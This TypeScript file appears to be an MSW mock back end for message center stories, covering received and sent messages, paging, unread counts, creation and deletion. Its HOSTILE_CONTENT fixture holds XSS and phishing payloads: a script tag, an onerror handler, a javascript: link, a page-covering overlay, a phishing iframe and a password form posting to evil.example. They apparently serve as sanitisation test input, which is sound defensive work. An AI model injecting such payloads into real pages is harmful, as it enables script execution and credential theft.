import { http, HttpResponse, type HttpHandler } from 'msw';
import { z } from 'zod';
import {
  envelope,
  listPage,
  messageCreateRequest,
  messageDetail,
  receivedMessage,
  roleRow,
  unreadCount,
  userRow,
  type MessageCreateRequest,
  type MessageDetail,
  type ReceivedMessage,
} from '../../../../../../contracts/schemas';
import { departments, failure, ok, superadmin } from '../../../../../../stories/mocks/fixtures';
import { MockBackend, mockBackend } from '../../../../../../stories/mocks/handlers';
import { roles, users } from '../../../../../../stories/mocks/system-rows';

/**
 * An in-memory message back end for the message center stories (API-CONTRACT §10): the received
 * list with each message's read state and paging, the unread count, retrieve (marks read), the sent
 * list, create (validated by the contract's request schema, as the server does), delete and
 * multiple_delete, and the user and role lists the compose pickers read. Every answer is built
 * through the contract schemas.
 */

export const MESSAGE_CENTER_PATH = '/messageCenter';
/** A title the server refuses (as it would a duplicate or a rule the client cannot know). */
export const REFUSED_TITLE = '服务器拒绝的标题';
export const REFUSED_MESSAGE = '消息发送失败：目标用户已被禁用';
/** A title the server refuses the way the real back end refuses an unknown user: msg as a list (API-CONTRACT §17). */
export const REFUSED_LIST_TITLE = '真实后端的列表消息';
export const REFUSED_LIST_MSG = [{ users: ['无效主键 “99999” － 对象不存在。'] }];
/** The id of the received message whose content is hostile HTML. */
export const HOSTILE_ID = 13;

export const HOSTILE_CONTENT = [
  '<p>请查收<script>window.__messageCenterPwned = "script"</script></p>',
  '<img src="/missing-message-image.png" onerror="window.__messageCenterPwned = \'onerror\'" alt="附件">',
  '<p style="position:fixed;inset:0;z-index:99999;background:red" onclick="window.__messageCenterPwned=\'click\'">覆盖整页</p>',
  '<a href="javascript:window.__messageCenterPwned=\'link\'">点此领取</a>',
  '<iframe src="https://example.com/phish"></iframe>',
  '<form action="https://evil.example"><input name="password" placeholder="请输入密码"></form>',
].join('');

export interface MessageCenterState {
  received: ReceivedMessage[];
  sent: MessageDetail[];
  /** Query strings of the calls, by kind. */
  receivedCalls: URLSearchParams[];
  sentCalls: URLSearchParams[];
  userSearches: string[];
  opened: number[];
  created: MessageCreateRequest[];
  deleted: number[];
}

/** A stable time per message id: a larger id is a newer message (seven hours apart from 2026-10-01). */
function stamp(id: number): string {
  const at = new Date(Date.UTC(2026, 9, 1) + id * 7 * 3600_000);
  return at.toISOString().slice(0, 19).replace('T', ' ');
}

const base = (id: number) => ({
  id,
  target_user: [] as number[],
  target_role: [] as number[],
  target_dept: [] as number[],
  creator: 2,
  creator_name: '管理员',
  modifier: '2',
  modifier_name: '管理员',
  dept_belong_id: '1',
  description: null,
  create_datetime: stamp(id),
  update_datetime: stamp(id),
});

/** 13 received messages, newest first: the three newest unread, the newest of all hostile HTML. */
function initialReceived(): ReceivedMessage[] {
  const list = Array.from({ length: 12 }, (_, i) =>
    receivedMessage.parse({
      ...base(i + 1),
      title: `运营周报第 ${i + 1} 期`,
      content: `<p>第 ${i + 1} 期：<strong>收入</strong>环比增长 ${i + 1}%。</p>`,
      target_type: 3,
      is_read: i < 10,
    }),
  );
  list.push(receivedMessage.parse({ ...base(HOSTILE_ID), title: '可疑的中奖通知', content: HOSTILE_CONTENT, target_type: 0, target_user: [1], is_read: false }));
  return list.reverse();
}

const userInfoOf = (ids: readonly number[]) => users.filter((u) => ids.includes(u.id)).map((u) => ({ id: u.id, username: u.username, name: u.name }));
const roleInfoOf = (ids: readonly number[]) => roles.filter((r) => ids.includes(r.id)).map((r) => ({ id: r.id, name: r.name, key: r.key }));
const deptInfoOf = (ids: readonly number[]) => departments.filter((d) => ids.includes(d.id)).map((d) => ({ id: d.id, name: d.name }));

function detail(id: number, body: MessageCreateRequest, creator = { id: superadmin.id, name: superadmin.name }): MessageDetail {
  const targetUser = body.target_user ?? [];
  const targetRole = body.target_role ?? [];
  const targetDept = body.target_dept ?? [];
  return messageDetail.parse({
    ...base(id),
    creator: creator.id,
    creator_name: creator.name,
    modifier: String(creator.id),
    modifier_name: creator.name,
    title: body.title,
    content: body.content,
    target_type: body.target_type,
    target_user: targetUser,
    target_role: targetRole,
    target_dept: targetDept,
    user_info: userInfoOf(targetUser),
    role_info: roleInfoOf(targetRole),
    dept_info: deptInfoOf(targetDept),
  });
}

/** 12 sent messages, newest first, with each target kind. */
function initialSent(): MessageDetail[] {
  const kinds: MessageCreateRequest[] = [
    { title: '', content: '', target_type: 0, target_user: [2, 3] },
    { title: '', content: '', target_type: 1, target_role: [2] },
    { title: '', content: '', target_type: 2, target_dept: [3] },
    { title: '', content: '', target_type: 3 },
  ];
  return Array.from({ length: 12 }, (_, i) => {
    const kind = kinds[i % kinds.length] ?? { title: '', content: '', target_type: 3 };
    return detail(50 + i, { ...kind, title: `已发布通知 ${String(i + 1).padStart(2, '0')}`, content: `<p>通知正文 ${i + 1}</p>` });
  }).reverse();
}

function page<T extends z.ZodType>(row: T, rows: z.input<T>[], q: URLSearchParams) {
  const p = Math.max(1, Number(q.get('page') ?? 1));
  const limit = Math.max(1, Number(q.get('limit') ?? 10));
  const data = rows.slice((p - 1) * limit, p * limit);
  return envelope(listPage(row)).parse({ code: 2000, msg: data.length ? 'success' : '暂无数据', data: { page: p, limit, total: rows.length, is_next: p * limit < rows.length, is_previous: p > 1, data } });
}

const M = '*/api/system/message_center/';

export function messageCenterBackend(): MockBackend & { center: MessageCenterState } {
  const state: MessageCenterState = { received: initialReceived(), sent: initialSent(), receivedCalls: [], sentCalls: [], userSearches: [], opened: [], created: [], deleted: [] };
  let nextId = 100;
  const basic = mockBackend();
  const unread = () => state.received.filter((m) => !m.is_read).length;
  const removeSent = (ids: number[]) => {
    state.deleted.push(...ids);
    state.sent = state.sent.filter((m) => !ids.includes(m.id));
    return HttpResponse.json(ok(z.array(z.never()), [], '删除成功'));
  };

  const handlers: HttpHandler[] = [
    http.get(`${M}get_unread_msg/`, () => HttpResponse.json(ok(unreadCount, { count: unread() }, '获取成功'))),
    http.get(`${M}get_newest_msg/`, () => HttpResponse.json(ok(receivedMessage.nullable(), state.received[0] ?? null, '获取成功'))),
    http.get(`${M}get_self_receive/`, ({ request }) => {
      const q = new URL(request.url).searchParams;
      state.receivedCalls.push(q);
      return HttpResponse.json(page(receivedMessage, state.received, q));
    }),
    http.delete(`${M}multiple_delete/`, async ({ request }) => removeSent(((await request.json()) as { keys: number[] }).keys)),
    http.get(M, ({ request }) => {
      const q = new URL(request.url).searchParams;
      state.sentCalls.push(q);
      return HttpResponse.json(page(messageDetail, state.sent, q));
    }),
    http.get(`${M}:id/`, ({ params }) => {
      const id = Number(params.id);
      state.opened.push(id);
      const received = state.received.find((m) => m.id === id);
      if (received) {
        state.received = state.received.map((m) => (m.id === id ? { ...m, is_read: true } : m));
        const { is_read: _read, ...message } = received;
        return HttpResponse.json(ok(messageDetail, { ...message, user_info: userInfoOf(message.target_user), role_info: [], dept_info: [] }, '获取成功'));
      }
      const sent = state.sent.find((m) => m.id === id);
      return HttpResponse.json(sent ? ok(messageDetail, sent, '获取成功') : failure(4000, '未找到该消息'));
    }),
    http.post(M, async ({ request }) => {
      const parsed = messageCreateRequest.safeParse(await request.json());
      if (!parsed.success) return HttpResponse.json(failure(4000, parsed.error.issues[0]?.message ?? '参数错误'));
      if (parsed.data.title === REFUSED_TITLE) return HttpResponse.json(failure(4000, REFUSED_MESSAGE));
      if (parsed.data.title === REFUSED_LIST_TITLE) return HttpResponse.json(failure(4000, REFUSED_LIST_MSG));
      state.created.push(parsed.data);
      const created = detail(nextId++, parsed.data);
      state.sent = [created, ...state.sent];
      if (parsed.data.target_type === 3 || parsed.data.target_user?.includes(superadmin.id)) {
        const { user_info: _u, role_info: _r, dept_info: _d, ...message } = created;
        state.received = [receivedMessage.parse({ ...message, is_read: false }), ...state.received];
      }
      return HttpResponse.json(ok(messageDetail, created, '新增成功'));
    }),
    http.delete(`${M}:id/`, ({ params }) => removeSent([Number(params.id)])),
    // The compose pickers: users through the remote search (`search`), all roles.
    http.get('*/api/system/user/', ({ request }) => {
      const q = new URL(request.url).searchParams;
      const keyword = q.get('search') ?? '';
      state.userSearches.push(keyword);
      const found = users.filter((u) => !keyword || u.username.includes(keyword) || u.name.includes(keyword));
      return HttpResponse.json(page(userRow, found, q));
    }),
    http.get('*/api/system/role/', ({ request }) => HttpResponse.json(page(roleRow, roles, new URL(request.url).searchParams))),
    ...basic.handlers,
  ];

  const reset = () => {
    basic.reset();
    Object.assign(state, { received: initialReceived(), sent: initialSent(), receivedCalls: [], sentCalls: [], userSearches: [], opened: [], created: [], deleted: [] });
    nextId = 100;
  };
  return Object.assign(new MockBackend(handlers, basic.state, reset), { center: state });
}
